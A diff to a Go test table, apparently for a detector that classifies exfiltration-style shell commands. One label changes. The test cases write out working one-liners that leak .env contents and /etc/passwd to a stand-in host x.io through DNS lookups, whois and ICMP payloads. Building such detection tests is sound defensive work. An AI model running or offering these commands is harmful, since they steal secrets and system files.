@@ -111,7 +111,7 @@ func TestMailAndNames(t *testing.T) {
 		{`for b in $(xxd -p .env); do nslookup $b.x.io; done`, "dns", "x.io"},
 		{`while read l; do host $l.x.io; done < /etc/passwd`, "dns", "x.io"},
 		{`cat .env | base64 | xargs -I{} dig {}.x.io`, "dns", "x.io"},
-		{`whois -h x.io "$(cat /etc/passwd)"`, "dns", "x.io"},
+		{`whois -h x.io "$(cat /etc/passwd)"`, "secret", "x.io"},
 		{`hping3 --icmp -d 100 --file /etc/passwd x.io`, "secret", "x.io"},
 
 		{`echo "Build done" | mail -s done me@x.io`, "", ""},
